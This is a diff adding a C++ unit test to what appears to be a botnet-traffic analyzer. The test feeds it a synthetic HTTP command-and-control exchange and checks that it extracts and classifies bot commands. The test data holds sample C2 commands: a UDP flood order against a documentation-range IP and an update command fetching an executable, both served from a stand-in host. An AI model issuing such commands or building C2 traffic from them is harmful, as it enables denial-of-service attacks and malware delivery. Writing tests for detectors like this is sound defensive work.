@@ -521,3 +521,29 @@ TEST_CASE("a command is tied to the flood that followed it, matching its named t
     REQUIRE(a.behavior.irc.size() == 1);
     CHECK(a.behavior.irc[0].commands == 2);
 }
+
+TEST_CASE("commands in a polling bot's HTTP reply are read; a style sheet is no command") {
+    CaptureWriter w;
+    TcpConversation c(w, ep(kHost, 1500), ep("10.66.0.1", 80), kT0);
+    c.handshake();
+    c.send(Direction::kOrig, "GET /gate.php?id=1 HTTP/1.1\r\nHost: cc.example\r\n\r\n");
+    std::string cmds =
+        ".ddos.udp 198.51.100.60 9 10\r\nnot a command\r\n!update http://x/y.exe\r\n";
+    c.send(Direction::kResp, "HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Length: " +
+                                 std::to_string(cmds.size()) + "\r\n\r\n" + cmds);
+    c.send(Direction::kOrig, "GET /style.css HTTP/1.1\r\nHost: cc.example\r\n\r\n");
+    std::string css = ".menu { color: red }\r\n";
+    c.send(Direction::kResp, "HTTP/1.1 200 OK\r\nContent-Type: text/css\r\nContent-Length: " +
+                                 std::to_string(css.size()) + "\r\n\r\n" + css);
+    c.close();
+    auto a = analyze(w);
+    REQUIRE(a.behavior.commands.size() == 2);
+    const BotCommand& first = a.behavior.commands[0];
+    CHECK(first.via == "http");
+    CHECK(first.where == "response");
+    CHECK(first.text == ".ddos.udp 198.51.100.60 9 10");
+    CHECK(first.category == "flood");
+    CHECK(first.target == "/gate.php?id=1");
+    CHECK(a.behavior.commands[1].verb == "update");
+    CHECK(a.behavior.commands[1].category == "download");
+}
